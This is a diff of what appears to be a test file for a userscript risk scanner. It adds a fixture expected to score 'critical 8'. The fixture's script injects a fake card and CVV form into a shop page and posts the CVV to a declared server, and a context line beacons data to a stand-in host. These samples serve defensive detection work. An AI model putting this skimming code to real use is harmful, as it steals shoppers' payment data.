@@ -92,6 +92,15 @@ setInterval(()=>{new Image().src="https://a.stranger.test/?"+s},9000)`,
 			),
 		],
 		[
+			"card data to a declared server",
+			["critical 8"],
+			userscript(
+				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect pay.example.net"],
+				`const o=document.createElement("div");o.innerHTML='<input class=cc placeholder="Card number"><input class=cv placeholder="CVV"><button>Verify</button>';document.body.append(o);
+o.querySelector("button").onclick=()=>GM_xmlhttpRequest({method:"POST",url:"https://pay.example.net/",data:o.querySelector(".cv").value})`,
+			),
+		],
+		[
 			"a sign-in form by a library",
 			["critical 5"],
 			userscript(
